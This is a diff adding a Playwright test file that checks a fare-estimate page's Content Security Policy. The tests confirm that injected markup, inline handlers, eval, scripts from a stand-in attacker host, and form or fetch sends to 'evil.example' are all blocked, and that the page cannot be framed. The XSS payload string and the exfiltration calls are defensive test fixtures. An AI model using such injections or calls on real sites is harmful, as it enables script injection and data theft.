@@ -1,0 +1,132 @@
+import { createServer } from 'node:http'
+import { expect, test } from './support/site.ts'
+
+const form = '/en-IN/fare-estimate'
+
+test.describe('what somebody smuggles into the page', { tag: '@any-size' }, () => {
+  test.beforeEach(async ({ page }) => {
+    await page.goto(form)
+    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
+  })
+
+  test('never becomes markup, a script or a handler', async ({ page, consoleErrors }) => {
+    consoleErrors.expectRefusal(/TrustedHTML|TrustedScript|Content Security Policy/)
+    const became = await page.evaluate(async () => {
+      const outcome = (act: () => void): string => {
+        try {
+          act()
+          return 'done'
+        } catch (thrown) {
+          return thrown instanceof Error ? thrown.name : 'thrown'
+        }
+      }
+      const script = document.createElement('script')
+      return {
+        markup: outcome(() => {
+          document.body.innerHTML = '<img src=x onerror="window.name = \'taken\'">'
+        }),
+        text: outcome(() => {
+          script.text = "window.name = 'taken'"
+        }),
+        address: outcome(() => {
+          script.src = 'https://evil.example/taken.js'
+        }),
+        // Not at once: what the test itself evaluates is let through.
+        string: await new Promise<string>((resolve) => {
+          setTimeout(() => {
+            resolve(
+              outcome(() => {
+                Reflect.apply(Reflect.get(window, 'eval'), window, ["window.name = 'taken'"])
+              }),
+            )
+          })
+        }),
+        handler: outcome(() => document.body.setAttribute('onclick', "window.name = 'taken'")),
+      }
+    })
+    expect(became).toMatchObject({
+      markup: 'TypeError',
+      text: 'TypeError',
+      address: 'TypeError',
+      string: 'EvalError',
+    })
+    await page.locator('body').click({ position: { x: 1, y: 1 } })
+    expect(await page.evaluate(() => window.name)).toBe('')
+  })
+
+  test('calls nobody, shows nothing of theirs and sends no form to them', async ({
+    page,
+    consoleErrors,
+  }) => {
+    consoleErrors.expectRefusal(/Content Security Policy/)
+    const reached: string[] = []
+    await page.route('https://evil.example/**', (route) => {
+      reached.push(route.request().url())
+      return route.fulfill({ body: '' })
+    })
+    await page.evaluate(async () => {
+      const image = new Image()
+      image.src = 'https://evil.example/pixel.png'
+      const sending = document.createElement('form')
+      sending.action = 'https://evil.example/take'
+      document.body.append(image, sending)
+      sending.submit()
+      await fetch('https://evil.example/take', { mode: 'no-cors' }).catch(() => undefined)
+    })
+    expect(reached).toEqual([])
+    expect(await page.evaluate(() => location.pathname)).toBe(form)
+  })
+})
+
+test('the website is in nobody’s frame', { tag: '@any-size' }, async ({
+  page,
+  site,
+  consoleErrors,
+}) => {
+  consoleErrors.expectRefusal(/Content Security Policy/)
+  const around = createServer((_, answer) => {
+    answer.setHeader('content-type', 'text/html')
+    answer.end(`<!doctype html><iframe src="${site.url}${form}"></iframe>`)
+  })
+  await new Promise<void>((resolve) => {
+    around.listen(0, '127.0.0.1', resolve)
+  })
+  try {
+    const address = around.address()
+    if (address === null || typeof address === 'string') throw new Error('no port was bound')
+    await page.goto(`http://127.0.0.1:${address.port}/`)
+    await expect
+      .poll(() => page.frames().map((frame) => frame.url()))
+      .toContain('chrome-error://chromewebdata/')
+    expect(page.frames()).toHaveLength(2)
+  } finally {
+    around.close()
+  }
+})
+
+test.describe('with the maps of Google', { tag: '@any-size' }, () => {
+  test.use({ settings: { HATHI_MAPS: 'google', HATHI_GOOGLE_MAPS_KEY: 'key' } })
+
+  test('their script may do what Google says that it does', async ({ page }) => {
+    const script = `
+      const style = document.createElement('style')
+      style.nonce = document.querySelector('style[nonce], link[rel=stylesheet][nonce]').nonce
+      style.textContent = 'body { --of-google: 1 }'
+      document.head.append(style)
+      const more = document.createElement('script')
+      more.src = 'https://maps.googleapis.com/maps-api-v3/api/js/more.js'
+      document.head.append(more)
+      window.name = eval('"ran"')`
+    await page.route('https://maps.googleapis.com/**', (route) =>
+      route.fulfill({
+        contentType: 'text/javascript',
+        body: route.request().url().endsWith('more.js') ? 'window.name += " on"' : script,
+      }),
+    )
+    await page.goto(form)
+    await expect.poll(() => page.evaluate(() => window.name)).toBe('ran on')
+    const styled = () =>
+      page.evaluate(() => getComputedStyle(document.body).getPropertyValue('--of-google'))
+    expect(await styled()).toBe('1')
+  })
+})
